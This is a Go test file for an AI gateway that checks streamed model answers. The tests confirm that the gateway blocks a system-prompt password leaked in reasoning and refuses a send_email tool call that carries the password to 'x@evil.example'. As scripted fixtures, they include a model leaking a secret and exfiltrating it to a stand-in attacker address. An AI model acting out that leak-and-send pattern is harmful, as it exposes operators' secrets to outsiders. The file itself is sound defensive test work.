package gateway

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/aegis-sentinel/aegis/internal/events"
	"github.com/aegis-sentinel/aegis/internal/sse"
	"github.com/aegis-sentinel/aegis/internal/upstream"
)

// The Messages and Responses dialects in front of upstreams shaped like
// llama-server build 11669's answers on those routes (testdata/wire holds
// real captures): a secret in reasoning, a tool call carrying it, event
// types Aegis does not know, and streams whose parts do not fit.

// namedSSE frames payloads as both APIs do: each event named after its
// type.
func namedSSE(payloads ...string) []byte {
	var b []byte
	for _, p := range payloads {
		b = appendNamed(b, eventType([]byte(p)), []byte(p))
	}
	return b
}

func js(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// msgStream is a Messages stream: thinking (when set), text, then a
// send_email tool_use block with args (when set), its input in three
// pieces; extra payloads go after message_start.
func msgStream(thinking, text, args string, extra ...string) []string {
	out := []string{`{"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","content":[],"model":"m","stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":9,"output_tokens":0}}}`}
	out = append(out, extra...)
	i := 0
	if thinking != "" {
		out = append(out, `{"type":"content_block_start","index":0,"content_block":{"type":"thinking","thinking":""}}`)
		for _, w := range splitWords(thinking) {
			out = append(out, js(map[string]any{"type": "content_block_delta", "index": 0, "delta": map[string]any{"type": "thinking_delta", "thinking": w}}))
		}
		out = append(out, `{"type":"content_block_delta","index":0,"delta":{"type":"signature_delta","signature":"c2lnbmVk"}}`, `{"type":"content_block_stop","index":0}`)
		i++
	}
	if text != "" {
		out = append(out, js(map[string]any{"type": "content_block_start", "index": i, "content_block": map[string]any{"type": "text", "text": ""}}))
		for _, w := range splitWords(text) {
			out = append(out, js(map[string]any{"type": "content_block_delta", "index": i, "delta": map[string]any{"type": "text_delta", "text": w}}))
		}
		out = append(out, js(map[string]any{"type": "content_block_stop", "index": i}))
		i++
	}
	stop := "end_turn"
	if args != "" {
		stop = "tool_use"
		out = append(out, js(map[string]any{"type": "content_block_start", "index": i, "content_block": map[string]any{"type": "tool_use", "id": "toolu_q1", "name": "send_email", "input": map[string]any{}}}))
		for _, p := range thirds(args) {
			out = append(out, js(map[string]any{"type": "content_block_delta", "index": i, "delta": map[string]any{"type": "input_json_delta", "partial_json": p}}))
		}
		out = append(out, js(map[string]any{"type": "content_block_stop", "index": i}))
	}
	return append(out, `{"type":"message_delta","delta":{"stop_reason":"`+stop+`","stop_sequence":null},"usage":{"output_tokens":12}}`, `{"type":"message_stop"}`)
}

// respStream is a Responses stream: a reasoning item (when set), a
// message item with text, then a send_email function_call with args
// (when set), its arguments in three pieces; extra payloads go after
// response.created.
func respStream(reasoning, text, args string, extra ...string) []string {
	out := []string{`{"type":"response.created","response":{"id":"resp_1","object":"response","status":"in_progress"}}`}
	out = append(out, extra...)
	var items []any
	idx := 0
	if reasoning != "" {
		out = append(out, js(map[string]any{"type": "response.output_item.added", "output_index": idx, "item": map[string]any{"type": "reasoning", "id": "rs_1", "summary": []any{}}}))
		for _, w := range splitWords(reasoning) {
			out = append(out, js(map[string]any{"type": "response.reasoning_text.delta", "item_id": "rs_1", "output_index": idx, "content_index": 0, "delta": w}))
		}
		item := map[string]any{"type": "reasoning", "id": "rs_1", "summary": []any{}, "content": []any{map[string]any{"type": "reasoning_text", "text": reasoning}}}
		out = append(out, js(map[string]any{"type": "response.reasoning_text.done", "item_id": "rs_1", "output_index": idx, "text": reasoning}),
			js(map[string]any{"type": "response.output_item.done", "output_index": idx, "item": item}))
		items = append(items, item)
		idx++
	}
	if text != "" {
		out = append(out, js(map[string]any{"type": "response.output_item.added", "output_index": idx, "item": map[string]any{"type": "message", "id": "msg_1", "role": "assistant", "status": "in_progress", "content": []any{}}}))
		for _, w := range splitWords(text) {
			out = append(out, js(map[string]any{"type": "response.output_text.delta", "item_id": "msg_1", "output_index": idx, "content_index": 0, "delta": w}))
		}
		item := map[string]any{"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": []any{map[string]any{"type": "output_text", "text": text, "annotations": []any{}}}}
		out = append(out, js(map[string]any{"type": "response.output_text.done", "item_id": "msg_1", "output_index": idx, "text": text}),
			js(map[string]any{"type": "response.output_item.done", "output_index": idx, "item": item}))
		items = append(items, item)
		idx++
	}
	if args != "" {
		out = append(out, js(map[string]any{"type": "response.output_item.added", "output_index": idx, "item": map[string]any{"type": "function_call", "id": "fc_1", "call_id": "call_q1", "name": "send_email", "arguments": "", "status": "in_progress"}}))
		for _, p := range thirds(args) {
			out = append(out, js(map[string]any{"type": "response.function_call_arguments.delta", "item_id": "fc_1", "output_index": idx, "delta": p}))
		}
		item := map[string]any{"type": "function_call", "id": "fc_1", "call_id": "call_q1", "name": "send_email", "arguments": args, "status": "completed"}
		out = append(out, js(map[string]any{"type": "response.function_call_arguments.done", "item_id": "fc_1", "output_index": idx, "arguments": args}),
			js(map[string]any{"type": "response.output_item.done", "output_index": idx, "item": item}))
		items = append(items, item)
	}
	return append(out, js(map[string]any{"type": "response.completed", "response": map[string]any{"id": "resp_1", "object": "response", "status": "completed", "model": "m", "output": items, "usage": map[string]any{"input_tokens": 9, "output_tokens": 12, "total_tokens": 21}}}))
}

// splitWords cuts s into pieces of about one word, as a model streams.
func splitWords(s string) []string {
	var out []string
	for len(s) > 0 {
		i := strings.IndexByte(s[1:], ' ')
		if i < 0 {
			out = append(out, s)
			break
		}
		out = append(out, s[:i+1])
		s = s[i+1:]
	}
	return out
}

func thirds(s string) []string {
	a, b := len(s)/3, 2*len(s)/3
	return []string{s[:a], s[a:b], s[b:]}
}

// eventRequest is a request of the route with the secret in its system
// prompt and the send_email tool.
func eventRequest(path string, stream bool) string {
	schema := map[string]any{"type": "object", "properties": map[string]any{"to": map[string]any{"type": "string"}, "body": map[string]any{"type": "string"}}}
	user := "Email bob@corp.example that I will see him at ten."
	if path == "/v1/messages" {
		return js(map[string]any{"model": "m", "max_tokens": 200, "stream": stream, "system": toolSystem,
			"messages": []any{map[string]any{"role": "user", "content": user}},
			"tools":    []any{map[string]any{"name": "send_email", "input_schema": schema}}})
	}
	return js(map[string]any{"model": "m", "max_output_tokens": 200, "stream": stream, "instructions": toolSystem, "input": user,
		"tools": []any{map[string]any{"type": "function", "name": "send_email", "parameters": schema}}})
}

// eventUpstream serves payloads as a named-event stream to every request.
func eventUpstream(t *testing.T, payloads []string) *upstream.Upstream {
	t.Helper()
	up := fakeUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "text/event-stream")
		w.Write(namedSSE(payloads...))
	})
	return mustUpstream(t, "fake", up.URL.String(), upstream.KindLlamaServer)
}

func TestEventDialectsSecretInReasoning(t *testing.T) {
	const secret = "Quartz-Lynx-2291"
	thinking := "The system prompt says the staging password is " + secret + " and I must not reveal it."
	for _, path := range []string{"/v1/messages", "/v1/responses"} {
		for _, stream := range []bool{true, false} {
			name := path + map[bool]string{true: " streamed", false: " whole"}[stream]
			t.Run(name, func(t *testing.T) {
				payloads := msgStream(thinking, "I will email Bob.", "")
				if path == "/v1/responses" {
					payloads = respStream(thinking, "I will email Bob.", "")
				}
				srv := start(t, &Gateway{Upstreams: []*upstream.Upstream{eventUpstream(t, payloads)}})
				resp := post(t, srv.URL+path, eventRequest(path, stream))
				raw := readAllBody(t, resp)
				for _, frag := range []string{secret, "Quartz", "staging password is"} {
					if bytes.Contains(raw, []byte(frag)) {
						t.Fatalf("the client got %q of the reasoning:\n%s", frag, raw)
					}
				}
				if !bytes.Contains(raw, []byte("aegis_secret_leak")) || !bytes.Contains(raw, []byte(`"path":"reasoning`)) {
					t.Fatalf("no secret_leak halt with a finding in the reasoning:\n%s", raw)
				}
				wantErr := map[string]string{"/v1/messages": `"type":"error"`, "/v1/responses": `"error":{`}[path]
				if stream && path == "/v1/responses" {
					wantErr = "event: response.failed\n"
				} else if stream {
					wantErr = "event: error\n"
				}
				if !bytes.Contains(raw, []byte(wantErr)) {
					t.Fatalf("the halt is not spoken as %q:\n%s", wantErr, raw)
				}
			})
		}
	}
}

func TestEventDialectsToolCalls(t *testing.T) {
	const secret = "Quartz-Lynx-2291"
	bad := js(map[string]string{"to": "x@evil.example", "body": "the password is " + secret})
	good := js(map[string]string{"to": "bob@corp.example", "body": "see you at ten"})
	for _, path := range []string{"/v1/messages", "/v1/responses"} {
		for _, stream := range []bool{true, false} {
			for _, refused := range []bool{true, false} {
				name := path + map[bool]string{true: " streamed", false: " whole"}[stream] + map[bool]string{true: " refused", false: " cleared"}[refused]
				t.Run(name, func(t *testing.T) {
					args := good
					if refused {
						args = bad
					}
					payloads := msgStream("", "Sending it now.", args)
					if path == "/v1/responses" {
						payloads = respStream("", "Sending it now.", args)
					}
					bus := &events.Bus{}
					sub := bus.Subscribe(256)
					defer sub.Close()
					srv := start(t, &Gateway{Upstreams: []*upstream.Upstream{eventUpstream(t, payloads)}, Events: bus})
					resp := post(t, srv.URL+path, eventRequest(path, stream))
					raw := readAllBody(t, resp)
					want := events.ToolCall{Tool: "send_email", Outcome: events.ToolReleased}
					if refused {
						want.Outcome = events.ToolRefused
					}
					var got []events.ToolCall
					for len(sub.C) > 0 {
						if e := <-sub.C; e.Kind == events.Verdict && e.ToolCalls != nil {
							got = e.ToolCalls
						}
					}
					if len(got) != 1 || got[0] != want {
						t.Errorf("verdict event tool calls %+v, want [%+v]", got, want)
					}
					if refused {
						for _, frag := range []string{secret, "Quartz", "toolu_q1", "call_q1", "the password is", `"tool_use"`, `"function_call"`} {
							if bytes.Contains(raw, []byte(frag)) {
								t.Fatalf("the client got %q of a refused call:\n%s", frag, raw)
							}
						}
						// The system prompt's secret goes to an address nobody
						// named: the halt is the flow's, and the leak check's
						// finding names the tool.
						if !bytes.Contains(raw, []byte("aegis_data_exfiltration")) || !bytes.Contains(raw, []byte(`"reason":"secret_leak"`)) ||
							!bytes.Contains(raw, []byte(`\"send_email\"`)) {
							t.Errorf("no data_exfiltration halt with a secret_leak finding naming the tool:\n%s", raw)
						}
						return
					}
					if resp.StatusCode != http.StatusOK || !bytes.Contains(raw, []byte(`"verdict":"pass"`)) {
						t.Fatalf("status %d:\n%s", resp.StatusCode, raw)
					}
					if stream {
						// Every event reaches the client as the upstream sent it
						// (the last one with the verdict added).
						// (text deltas the hold-back cut are spelled anew).
						for _, p := range payloads[:len(payloads)-1] {
							if !isTextDelta(p) && !bytes.Contains(raw, namedSSE(p)) {
								t.Errorf("upstream event not passed on byte for byte: %s\nclient got:\n%s", p, raw)
							}
						}
						if got, want := streamText(t, raw), streamText(t, namedSSE(payloads...)); got != want {
							t.Errorf("client text %q, upstream's %q", got, want)
						}
						return
					}
					var body map[string]json.RawMessage
					if err := json.Unmarshal(raw, &body); err != nil {
						t.Fatalf("body not JSON: %v\n%s", err, raw)
					}
					calls := string(body["content"]) + string(body["output"])
					if !strings.Contains(calls, "bob@corp.example") || !strings.Contains(calls, "send_email") || !strings.Contains(calls, "Sending it now.") {
						t.Errorf("whole answer lacks the call or the text:\n%s", raw)
					}
				})
			}
		}
	}
}

// TestEventDialectsUnknownEvents: event types, delta types and blocks
// Aegis does not know (and ping, and Anthropic's signatures) reach the
// client untouched and in order.
func TestEventDialectsUnknownEvents(t *testing.T) {
	for _, tc := range []struct {
		path     string
		payloads []string
		extra    []string
	}{
		{"/v1/messages", nil, []string{`{"type":"ping"}`, `{"type":"content_block_future","index":7,"data":{"x":1}}`}},
		{"/v1/responses", nil, []string{`{"type":"response.in_progress","response":{"id":"resp_1"}}`, `{"type":"response.future_thing","sequence_number":3}`}},
	} {
		t.Run(tc.path, func(t *testing.T) {
			payloads := msgStream("Let me think.", "Hello there.", "", tc.extra...)
			if tc.path == "/v1/responses" {
				payloads = respStream("Let me think.", "Hello there.", "", tc.extra...)
			}
			srv := start(t, &Gateway{Upstreams: []*upstream.Upstream{eventUpstream(t, payloads)}})
			raw := readAllBody(t, post(t, srv.URL+tc.path, eventRequest(tc.path, true)))
			last := -1
			for _, p := range payloads[:len(payloads)-1] {
				if isTextDelta(p) {
					continue
				}
				i := bytes.Index(raw, namedSSE(p))
				if i < 0 || i < last {
					t.Fatalf("event missing or out of order: %s\nclient got:\n%s", p, raw)
				}
				last = i
			}
			if got, want := streamText(t, raw), streamText(t, namedSSE(payloads...)); got != want {
				t.Errorf("client text %q, upstream's %q", got, want)
			}
		})
	}
}

// isTextDelta reports whether p is a text or reasoning delta, which the
// releaser may cut where the checks' hold-back ends.
func isTextDelta(p string) bool {
	switch eventType([]byte(p)) {
	case "content_block_delta":
		return strings.Contains(p, `"text_delta"`) || strings.Contains(p, `"thinking_delta"`)
	case "response.output_text.delta", "response.reasoning_text.delta":
		return true
	}
	return false
}

// streamText is the text and reasoning of a named-event stream, in order.
func streamText(t *testing.T, raw []byte) string {
	t.Helper()
	rd := sse.NewReader(bytes.NewReader(raw))
	var text strings.Builder
	for {
		ev, err := rd.Next()
		if err == io.EOF {
			return text.String()
		}
		if err != nil {
			t.Fatal(err)
		}
		var m struct {
			Type  string          `json:"type"`
			Delta json.RawMessage `json:"delta"`
		}
		if err := json.Unmarshal(ev.Data, &m); err != nil {
			t.Fatalf("event not JSON: %s", ev.Data)
		}
		var s string
		var d struct{ Text, Thinking string }
		switch {
		case json.Unmarshal(m.Delta, &s) == nil && strings.HasSuffix(m.Type, "text.delta"):
			text.WriteString(s)
		case m.Type == "content_block_delta" && json.Unmarshal(m.Delta, &d) == nil:
			text.WriteString(d.Text + d.Thinking)
		}
	}
}

// TestEventDialectsHideReasoning: with reasoning: hide the client reads
// none of the thinking or reasoning text, streamed or whole, and gets the
// answer's text (a streamed Responses answer's closing events, which
// repeat the reasoning whole, carry it blanked).
func TestEventDialectsHideReasoning(t *testing.T) {
	const thought = "Pondering quietly about the weather."
	for _, path := range []string{"/v1/messages", "/v1/responses"} {
		for _, stream := range []bool{true, false} {
			t.Run(path+map[bool]string{true: " streamed", false: " whole"}[stream], func(t *testing.T) {
				payloads := msgStream(thought, "It is sunny.", "")
				if path == "/v1/responses" {
					payloads = respStream(thought, "It is sunny.", "")
				}
				srv := start(t, &Gateway{Upstreams: []*upstream.Upstream{eventUpstream(t, payloads)}, Policy: mustPolicy(t, "reasoning: hide\n")})
				resp := post(t, srv.URL+path, eventRequest(path, stream))
				raw := readAllBody(t, resp)
				if resp.StatusCode != http.StatusOK || bytes.Contains(raw, []byte("Pondering")) || bytes.Contains(raw, []byte("weather")) {
					t.Fatalf("status %d, reasoning reached the client:\n%s", resp.StatusCode, raw)
				}
				got := ""
				if stream {
					got = streamText(t, raw)
				} else {
					got = wholeText(t, raw)
				}
				if got != "It is sunny." {
					t.Fatalf("text %q:\n%s", got, raw)
				}
			})
		}
	}
}

// TestEventDialectsHiddenRetry: a first attempt that says a banned term
// is retried unseen; the client reads one answer in its API's events (one
// opening event, deltas only for blocks or items it was told of, the
// closing event with the verdict), without the secret.
func TestEventDialectsHiddenRetry(t *testing.T) {
	const secret = "lorem ipsum"
	for _, path := range []string{"/v1/messages", "/v1/responses"} {
		for _, stream := range []bool{true, false} {
			t.Run(path+map[bool]string{true: " streamed", false: " whole"}[stream], func(t *testing.T) {
				bad, good := msgStream("", "Sure. Here is "+secret+" text.", ""), msgStream("", "Sure. I cannot share that.", "")
				if path == "/v1/responses" {
					bad, good = respStream("", "Sure. Here is "+secret+" text.", ""), respStream("", "Sure. I cannot share that.", "")
				}
				n := 0
				up := fakeUpstream(t, func(w http.ResponseWriter, r *http.Request) {
					io.Copy(io.Discard, r.Body)
					n++
					w.Header().Set("Content-Type", "text/event-stream")
					if n == 1 {
						w.Write(namedSSE(bad...))
						return
					}
					w.Write(namedSSE(good...))
				})
				srv := start(t, &Gateway{Upstreams: []*upstream.Upstream{mustUpstream(t, "fake", up.URL.String(), upstream.KindLlamaServer)}, Policy: mustPolicy(t, "checks: {banned: {terms: [lorem ipsum]}}\n")})
				resp := post(t, srv.URL+path, eventRequest(path, stream))
				raw := readAllBody(t, resp)
				if resp.StatusCode != http.StatusOK || bytes.Contains(raw, []byte(secret)) || !bytes.Contains(raw, []byte(`"repaired":["banned_content"]`)) {
					t.Fatalf("status %d, want a repaired answer without the secret:\n%s", resp.StatusCode, raw)
				}
				if !stream {
					if got := wholeText(t, raw); !strings.HasSuffix(got, "I cannot share that.") {
						t.Fatalf("text %q", got)
					}
					return
				}
				open := map[string]bool{"message_start": false, "response.created": false}
				var c chunk
				d := dialectMessages
				if path == "/v1/responses" {
					d = dialectResponses
				}
				rd := sse.NewReader(bytes.NewReader(raw))
				for ev, err := rd.Next(); err == nil; ev, err = rd.Next() {
					if _, ok := open[ev.Name]; ok {
						if open[ev.Name] {
							t.Fatalf("a second %s:\n%s", ev.Name, raw)
						}
						open[ev.Name] = true
					}
					if err := d.parse(ev.Data, &c); err != nil {
						t.Fatalf("the client's stream does not read as one answer: %v\n%s", err, raw)
					}
				}
				if got := streamText(t, raw); !strings.HasSuffix(got, "I cannot share that.") {
					t.Fatalf("text %q", got)
				}
			})
		}
	}
}
